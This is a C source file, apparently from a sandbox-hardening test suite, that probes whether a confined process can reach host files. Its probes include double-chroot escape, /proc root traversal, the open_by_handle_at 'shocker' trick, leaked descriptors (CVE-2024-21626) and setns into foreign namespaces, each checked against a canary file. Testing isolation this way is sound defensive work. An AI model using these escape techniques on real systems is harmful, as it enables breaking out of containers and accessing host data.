/* The host's files: by leaving the root, by handles, by what other processes hold, by other namespaces. */
#include "attacks.h"
#include <dirent.h>

static enum outcome pivot(void)
{
    own_mounts();
    return judge(syscall(SYS_pivot_root, "/proc", "/proc"), "pivot_root");
}

static enum outcome chroot_out(void)
{
    if (!setting("canary")) return untried("no canary=PATH");
    int root = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (root < 0 || chroot(scratch()) < 0) return judge(-1, "chroot");
    if (fchdir(root) < 0) return judge(-1, "fchdir");
    for (int i = 0; i < 100; i++)
        if (chdir("..") < 0) return judge(-1, "chdir ..");
    if (chroot(".") < 0) return judge(-1, "chroot .");
    if (canary_at("")) return through("read the host's file");
    return held("'..' ends at the subhost's own root");
}

enum outcome links_of(int pid)
{
    char prefix[64];
    for (int i = 0; i < 2; i++) {
        snprintf(prefix, sizeof prefix, "/proc/%d/%s", pid, i ? "cwd" : "root");
        if (canary_at(prefix)) return through("read the host's file by %s", prefix);
        /* From its working directory upwards. */
        char up[200];
        snprintf(up, sizeof up, "%s/../../../../../../../..", prefix);
        if (canary_at(up)) return through("read the host's file by %s", up);
    }
    return HELD;
}

static enum outcome process_roots(void)
{
    if (!setting("canary")) return untried("no canary=PATH");
    return each_process(links_of);
}

static enum outcome by_handle(void)
{
    union {
        struct file_handle handle;
        char space[sizeof(struct file_handle) + MAX_HANDLE_SZ];
    } h = {.handle = {.handle_bytes = MAX_HANDLE_SZ}};
    /* A handle that a file system gives; what shocker does is to guess others. */
    const char *files[] = {"/etc/resolv.conf", "/etc/hosts", "/etc/passwd", "/tmp"};
    for (size_t i = 0; i < sizeof files / sizeof *files; i++) {
        int id, place = open(files[i], O_RDONLY | O_CLOEXEC);
        h.handle.handle_bytes = MAX_HANDLE_SZ;
        if (place < 0 || name_to_handle_at(AT_FDCWD, files[i], &h.handle, &id, AT_SYMLINK_FOLLOW) < 0) continue;
        if (open_by_handle_at(place, &h.handle, O_RDONLY) >= 0) return through("opened %s by its handle", files[i]);
        if (!forbidden(errno)) return untried("open_by_handle_at: %s", strerror(errno));
    }
    /* Permission is checked before the handle is looked at, in case that none was to be had. */
    memset(&h, 0, sizeof h);
    h.handle.handle_bytes = 8;
    h.handle.handle_type = 1;
    int place = open("/", O_RDONLY | O_CLOEXEC);
    return judge_reached(open_by_handle_at(place, &h.handle, O_RDONLY), "open_by_handle_at");
}

/* The ids of the mounts that are ours, as many as there are. */
static bool ours(int id)
{
    char line[4096];
    bool found = false;
    FILE *mountinfo = fopen("/proc/self/mountinfo", "re");
    while (mountinfo && !found && fgets(line, sizeof line, mountinfo)) found = atoi(line) == id;
    if (mountinfo) fclose(mountinfo);
    return found;
}

/* Is descriptor `fd` of `pid` a file of a mount that is not ours? */
static bool foreign(int pid, const char *fd, char *target, size_t size)
{
    char path[PATH_MAX], line[256];
    snprintf(path, sizeof path, "/proc/%d/fd/%s", pid, fd);
    long n = readlink(path, target, size - 1);
    if (n < 0) return false;
    target[n] = 0;
    if (*target != '/') return false; /* pipe:, socket:, anon_inode: */
    snprintf(path, sizeof path, "/proc/%d/fdinfo/%s", pid, fd);
    FILE *info = fopen(path, "re");
    int id = -1;
    while (info && fgets(line, sizeof line, info)) sscanf(line, "mnt_id: %d", &id);
    if (info) fclose(info);
    return id >= 0 && !ours(id);
}

enum outcome descriptors_of(int pid)
{
    char path[64], target[PATH_MAX];
    snprintf(path, sizeof path, "/proc/%d/fd", pid);
    DIR *fds = opendir(path);
    if (!fds) return HELD;
    enum outcome outcome = HELD;
    for (struct dirent *entry; outcome == HELD && (entry = readdir(fds));) {
        /* What the caller gives as 0, 1 and 2 is given on purpose; see given-descriptors. */
        if (*entry->d_name == '.' || atoi(entry->d_name) < 3) continue;
        if (foreign(pid, entry->d_name, target, sizeof target))
            outcome = through("descriptor %s of process %d is the host's %s", entry->d_name, pid, target);
    }
    closedir(fds);
    return outcome;
}

static enum outcome foreign_descriptors(void)
{
    /* Our own first: the runner is our parent and has the same. */
    if (descriptors_of(getppid()) == THROUGH) return THROUGH;
    return each_process(descriptors_of);
}

static enum outcome leaked(void)
{
    char target[PATH_MAX];
    DIR *fds = opendir("/proc/self/fd");
    if (!fds) return untried("/proc/self/fd: %s", strerror(errno));
    for (struct dirent *entry; (entry = readdir(fds));) {
        int fd = atoi(entry->d_name);
        if (*entry->d_name == '.' || fd < 3 || fd == dirfd(fds)) continue;
        char path[64];
        snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
        long n = readlink(path, target, sizeof target - 1);
        target[n < 0 ? 0 : n] = 0;
        return through("descriptor %d is %s", fd, target);
    }
    return held("nothing but 0, 1 and 2");
}

/* What the host gave as 0, 1, 2: may it be changed for the host? The mode that it has is set again. */
static enum outcome given(void)
{
    char target[PATH_MAX], number[2] = "0";
    for (int fd = 0; fd < 3; fd++) {
        struct stat st;
        number[0] = '0' + fd;
        if (fstat(fd, &st) < 0 || !foreign(getpid(), number, target, sizeof target)) continue;
        if (fchmod(fd, st.st_mode & 07777) == 0) return through("changed the mode of the host's %s", target);
    }
    return held("0, 1 and 2 cannot be changed for the host");
}

/* A working directory that is the host's (CVE-2024-21626). */
static enum outcome directory(void)
{
    char cwd[PATH_MAX];
    if (!setting("canary")) return untried("no canary=PATH");
    if (syscall(SYS_getcwd, cwd, sizeof cwd) < 0) return untried("getcwd: %s", strerror(errno));
    if (!strncmp(cwd, "(unreachable)", 13)) return through("the working directory is outside: %s", cwd);
    if (canary_at("../../../../../../../../../..")) return through("read the host's file by ..");
    return held("the working directory is %s", cwd);
}

enum outcome namespaces_of(int pid)
{
    const char *kinds[] = {"mnt", "net", "uts", "ipc", "pid", "cgroup", "user", "time"};
    for (size_t i = 0; i < sizeof kinds / sizeof *kinds; i++) {
        char path[64], own[64];
        struct stat theirs, mine;
        snprintf(path, sizeof path, "/proc/%d/ns/%s", pid, kinds[i]);
        snprintf(own, sizeof own, "/proc/self/ns/%s", kinds[i]);
        if (stat(path, &theirs) < 0 || stat(own, &mine) < 0 || theirs.st_ino == mine.st_ino) continue;
        int fd = open(path, O_RDONLY | O_CLOEXEC);
        if (fd >= 0 && setns(fd, 0) == 0) return through("joined %s of process %d", kinds[i], pid);
    }
    return HELD;
}

static enum outcome namespaces(void) { return each_process(namespaces_of); }

static enum outcome by_pidfd(void)
{
    long fd = syscall(SYS_pidfd_open, 1, 0);
    if (fd < 0) return judge(-1, "pidfd_open");
    return judge(setns(fd, CLONE_NEWNS | CLONE_NEWUTS | CLONE_NEWIPC), "setns to PID 1");
}

const struct attack root_attacks[] = {
    {"pivot-root", pivot, IN_CHROOT, "another root", 0},
    {"chroot-out", chroot_out, IN_CHROOT, "the double chroot", 0},
    {"process-roots", process_roots, IN_CHROOT, "/proc/PID/root and cwd of PID 1 and all others", 0},
    {"open-by-handle", by_handle, IN_CHROOT, "any file of a file system by its handle (shocker)", 0},
    {"foreign-descriptors", foreign_descriptors, IN_CHROOT, "a descriptor of the host in any process (CVE-2024-21626)", 0},
    {"leaked-descriptors", leaked, IN_CHROOT, "a descriptor that came along", 0},
    {"given-descriptors", given, IN_CHROOT, "the host's file behind 0, 1 or 2, changed", 0},
    {"working-directory", directory, IN_CHROOT, "a working directory that is the host's (CVE-2024-21626)", 0},
    {"setns-found", namespaces, IN_CHROOT, "namespaces of other processes that are not ours", 0},
    {"setns-pidfd", by_pidfd, IN_CHROOT, "setns by a pidfd", 0},
    {0},
};
